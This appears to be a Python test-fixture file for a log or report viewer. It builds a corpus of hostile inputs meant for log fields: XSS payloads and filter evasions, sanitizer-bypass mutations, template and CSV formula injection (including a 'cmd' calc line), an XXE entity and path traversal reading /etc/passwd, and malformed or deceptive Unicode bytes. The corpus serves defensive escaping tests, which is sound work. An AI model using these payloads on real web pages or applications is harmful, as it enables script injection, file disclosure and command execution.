"""What somebody may put into a key, a referer, a user agent, a requester or the
name of a bucket, hoping that a page will take it for more than text.

A payload that runs sets `__pwned` or opens a dialog; one that loads asks
`pwned.invalid`. They are bytes: some are no UTF-8. A line's fields are bounded by
spaces, so where there are no quotes `bare` writes `/` for a space, which HTML takes
for one between attributes.
"""

# Bytes of the long ones: a line has 64 KiB at most.
LONG = (1 << 16) - 1536
RUN = "window.__pwned=1;alert(1)"
LOAD = "http://pwned.invalid/x"

# Elements that run or load by themselves, and how they are spelled to get past a
# filter: HTML knows no case, ends tags early and forgives much.
ELEMENTS = f"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<script >{RUN}</script >
<script/x>{RUN}</script/x>
<script src={LOAD}></script>
<script src=data:text/javascript,{RUN}></script>
<script type=module>{RUN}</script>
<scr<script>ipt>{RUN}</scr</script>ipt>
<<script>{RUN}//<</script>
<script>{RUN}
<script\t>{RUN}</script\t>
<script\x0c>{RUN}</script\x0c>
<script\x00>{RUN}</script>
<scr\x00ipt>{RUN}</scr\x00ipt>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src=x onerror='{RUN}'>
<img src=x onerror=`{RUN}`>
<IMG SRC=x ONERROR={RUN}>
<img src={LOAD}>
<img srcset={LOAD}>
<img src=x onerror={RUN}
<image src=x onerror={RUN}>
<svg onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href={LOAD} /></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><set onbegin={RUN} attributeName=x>
<svg><a xlink:href=javascript:{RUN}><text y=20>go</text></a></svg>
<svg><image href={LOAD} /></svg>
<svg><use href="{LOAD}#x" /></svg>
<svg><foreignObject><body onload={RUN}></foreignObject></svg>
<svg><style>@import '{LOAD}'</style></svg>
<math><a href=javascript:{RUN}>go</a></math>
<math><mi xlink:href=javascript:{RUN}>go</mi></math>
<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>
<body onload={RUN}>
<body background={LOAD}>
<html onclick={RUN}>
<frameset onload={RUN}><frame src={LOAD}></frameset>
<iframe src={LOAD}></iframe>
<iframe src=javascript:{RUN}></iframe>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<object data={LOAD}></object>
<object data=javascript:{RUN}></object>
<embed src={LOAD}>
<applet code=x archive={LOAD}></applet>
<link rel=stylesheet href={LOAD}>
<link rel=prefetch href={LOAD}>
<link rel=icon href={LOAD}>
<base href=http://pwned.invalid/>
<base target=x>
<meta http-equiv=refresh content="0;url={LOAD}">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>
<audio src=x onerror={RUN}>
<video src=x onerror={RUN}>
<video poster={LOAD}>
<video><source onerror={RUN}></video>
<track src={LOAD}>
<input autofocus onfocus={RUN}>
<input type=image src={LOAD}>
<select autofocus onfocus={RUN}><option>x</select>
<textarea autofocus onfocus={RUN}>
<button onclick={RUN}>go</button>
<button form=f formaction=javascript:{RUN}>go</button>
<form action={LOAD}><input name=x>
<form id=f><input name=parentNode>
<isindex action=javascript:{RUN} type=image>
<details open ontoggle={RUN}><summary>x</summary></details>
<details open ontoggle={RUN}>
<summary onclick={RUN}>x</summary>
<dialog open onclose={RUN}>x</dialog>
<marquee onstart={RUN}>x</marquee>
<a href=javascript:{RUN}>go</a>
<a href="java&#115;cript:{RUN}">go</a>
<a href=" &#1; javascript:{RUN}">go</a>
<a href=data:text/html,<script>{RUN}</script>>go</a>
<a href=vbscript:{RUN}>go</a>
<a name=__pwned id=__pwned>x</a>
<p id=__pwned>x</p>
<x onclick={RUN} tabindex=1 id=x>go</x>
<x contenteditable onblur={RUN}>x</x>
<xss style=animation-name:x onanimationstart={RUN}>
<custom-element onfocus={RUN} tabindex=0>
<portal src={LOAD}>
<area href=javascript:{RUN}>
<table background={LOAD}><td>x
<plaintext>
<xmp><script>{RUN}</script>
<listing><img src=x onerror={RUN}></listing>
<bgsound src={LOAD}>
<keygen autofocus onfocus={RUN}>
<template><script>{RUN}</script></template>
<slot onslotchange={RUN}></slot>
"""

# What ends the element, attribute, comment or table that a text stands in.
BREAKERS = f"""
</td></tr></table><script>{RUN}</script>
</summary></details><script>{RUN}</script>
</code></pre><script>{RUN}</script>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
</style><script>{RUN}</script>
</script><script>{RUN}</script>
</script ><img src=x onerror={RUN}>
</noscript><img src=x onerror={RUN}>
</template><img src=x onerror={RUN}>
</svg><img src=x onerror={RUN}>
</text></svg><script>{RUN}</script>
</desc></svg><script>{RUN}</script>
</body></html><script>{RUN}</script>
</main></section></article>
</p></div></span></li></ul></ol></dl>
<title>x
<style>
<style>*{{display:none}}</style>
<script>
<!--
<!-->
<!--><script>{RUN}</script>
<!---><script>{RUN}</script>
--><script>{RUN}</script>
--!><script>{RUN}</script>
<!--<script>
<!-- --!><img src=x onerror={RUN}>
<![CDATA[<script>{RUN}</script>]]>
]]><script>{RUN}</script>
<![CDATA[
<?xml version="1.0"?>
<?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x "y">]>
<!ENTITY x SYSTEM "file:///etc/passwd">
<%= 7*7 %>
</
</ >
</x
<
<a
<a href="
<a href='
&
&lt;script&gt;{RUN}&lt;/script&gt;
&#60;script&#62;{RUN}&#60;/script&#62;
&#x3c;img src=x onerror={RUN}&#x3e;
&ltscript&gt{RUN}
&amp;lt;b&amp;gt;
&notanentity;&#0;&#xD800;&#x110000;
"
'
`
">
'>
"><script>{RUN}</script>
'><script>{RUN}</script>
"><img src=x onerror={RUN}>
" onmouseover={RUN} x="
' onmouseover={RUN} x='
" autofocus onfocus="{RUN}
" style="background:url({LOAD})
" href="javascript:{RUN}
/onmouseover={RUN}//
x onmouseover={RUN}
" id="__pwned" name="__pwned
" class="critical
"/><b>
"""

# Addresses and languages that a page might speak: scripts, style sheets, templates,
# Markdown, JSON, terminals, formulas.
LANGUAGES = f"""
javascript:{RUN}
JaVaScRiPt:{RUN}
java\tscript:{RUN}
javascript://%0a{RUN}
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload={RUN}>
blob:null/x
file:///etc/passwd
//pwned.invalid/x
\\\\pwned.invalid\\x
';{RUN}//
";{RUN}//
\\";{RUN}//
`;{RUN}//
${{{RUN}}}
{{{{constructor.constructor('{RUN}')()}}}}
{{{{7*7}}}}
{{% include 'x' %}}
[[${{7*7}}]]
#{{7*7}}
<#assign x=7*7>
@{{7*7}}
*{{background:url({LOAD})}}
}}body{{display:none}}
x;background-image:url({LOAD})
x:expression({RUN})
@import '{LOAD}';
url({LOAD})
","level":"none","x":"
"}}],"incidents":[],"x":[{{"
\\
\\"
\\u0022
\\u003cscript\\u003e{RUN}\\u003c/script\\u003e
\\x3cscript\\x3e{RUN}\\x3c/script\\x3e
__proto__
constructor
[x](javascript:{RUN})
![x]({LOAD})
[x]: {LOAD}
<{LOAD}>
<javascript:{RUN}>
| x | y |
# heading
```
~~~
`x` **y** ~~z~~
- [ ] x
1. x
> x
***
=cmd|'/C calc'!A0
+ADw-script+AD4-{RUN}+ADw-/script+AD4-
"""

# Sanitisers parse, write and parse again; these come out of it alive.
MUTATIONS = f"""
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">
<svg></p><style><a id="</style><img src=x onerror={RUN}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=x>">
<svg><title><![CDATA[</title><script>{RUN}</script>]]></svg>
<p><svg><style>/*</style><img src=x onerror={RUN}>*/
<table><caption><svg><title><table><img src=x onerror={RUN}>
<select><keygen><svg><script>{RUN}</script>
<a><table><a><img src=x onerror={RUN}></table>
<listing>&lt;img src=x onerror={RUN}&gt;</listing>
<img alt="`><img src=x onerror={RUN}>">
"""

# Bytes: what has no shape of its own, turns text around, is no character, or looks
# like another.
BYTES = [
    "\u202egnp.exe".encode(),
    "\u202e\u2066// admin \u2069\u2066".encode(),
    "\u2067abc\u2068def".encode(),
    "\u2069\u2069\u2069\u202c\u202c".encode(),
    "\u202a\u202b\u202d".encode(),
    "\u200f\u200e\u061c".encode(),
    "a\u200bb\u200cc\u200dd\u2060e\ufeff".encode(),
    "x\u2028window.__pwned=1\u2029".encode(),
    "\u0085\u00a0\u3000\u2003".encode(),
    "\u00ad\u034f\u115f\u1160\u17b4\u3164".encode(),
    ("a" + "\u0301" * 80).encode(),
    "\U000e0041\U000e0042\U000e007f".encode(),
    "\ufe0f\ufe0e\U000e0100".encode(),
    "\ufdd0\ufffe\uffff\U0010ffff".encode(),
    "\ufffd\ufffc\ue000".encode(),
    "раураl.com/аdmin".encode(),
    "аcme-ｄatalake".encode(),
    "＜script＞alert（1）＜／script＞".encode(),
    "﹤img src=x onerror=alert(1)﹥".encode(),
    "שלום/عالم/abc".encode(),
    "👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062".encode(),
    b"\x00<script\x00>window.__pwned=1</script>",
    b"a\x00b\x00c",
    b"\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0e\x0f\x10\x1a\x1f\x7f",
    b"\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://pwned.invalid\x07x",
    b"\r\r<b>\x0c\x0b\t",
    b"\x80\x81\x9b31m\x9d0;x\x9c\xff\xfe",
    b"\xc0\xbcscript\xc0\xbe",
    b"\xe0\x80\xbcscript\xe0\x80\xbe",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80",
    b"\xe2\x82<img src=x onerror=alert(1)>",
    b"\xc2<script>window.__pwned=1</script>",
    b"\xf0\x9f<svg onload=alert(1)>",
    b"\x1b$B<script>\x1b(B",
    b"\x81\x22><script>window.__pwned=1</script>",
    b"\xbcscript\xbewindow.__pwned=1\xbc/script\xbe",
    b"%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    b"%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    b"%00%0d%0a%c0%bc%u003cscript%u003e",
    b"..%2f..%2f..%2fetc%2fpasswd",
    # As much as a line may have beside its other fields; a line of more is no record.
    *(unit * (LONG // len(unit)) for unit in (
        b"<b>", b"&", b"\"'", b"A", "\u202e".encode(), b"\xff", b"<!--", b"</td>", b"<svg><a>",
    )),
]


def lines(text):
    """A table's rows."""
    return [line.encode() for line in text.split("\n") if line]


PAYLOADS = [
    *lines(ELEMENTS),
    *lines(BREAKERS),
    *lines(LANGUAGES),
    *lines(MUTATIONS),
    *BYTES,
]


def bare(payload):
    """The payload where nothing is quoted."""
    return payload.replace(b" ", b"/")


def shown(payload):
    """As the program shows bytes in UTF-8: what is none, and a backslash that could
    be mistaken for that, is `\\xHH` (docs/output.md)."""
    hexadecimal = b"0123456789abcdefABCDEF"
    text, rest = [], payload
    while rest:
        good = rest
        try:
            good.decode()
        except UnicodeDecodeError as error:
            good, bad = rest[: error.start], rest[error.start : error.end]
        else:
            bad = b""
        out = []
        for place, byte in enumerate(good):
            after = good[place + 1 : place + 4]
            escape = (
                byte == 0x5C
                and len(after) == 3
                and after[:1] == b"x"
                and all(one in hexadecimal for one in after[1:])
            )
            out.append(b"\\x5C" if escape else bytes([byte]))
        text.append(b"".join(out).decode())
        text.extend(f"\\x{byte:02X}" for byte in bad)
        rest = rest[len(good) + len(bad) :]
    return "".join(text)


assert len(PAYLOADS) >= 200 and len(set(map(bare, PAYLOADS))) == len(PAYLOADS)
assert not any(b"\n" in payload for payload in PAYLOADS)
